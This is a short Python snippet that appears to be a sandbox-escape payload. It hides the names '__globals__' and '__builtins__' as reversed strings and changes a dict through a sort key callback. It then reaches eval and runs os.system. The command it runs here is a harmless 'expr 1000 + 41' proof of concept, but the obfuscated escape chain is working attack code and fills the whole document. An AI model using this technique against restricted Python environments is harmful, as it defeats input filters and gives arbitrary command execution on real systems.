def rev(t):
    return t[::-1]
E = rev("__slabolg__")
d = {"a": "zone"}
def f(x):
    x["a"] = E
    return 0
box = [d]
box.sort(key=f)
getattr(rev, d["a"])[rev("__snitliub__")].eval("__import__('os').system('expr 1000 + 41')")
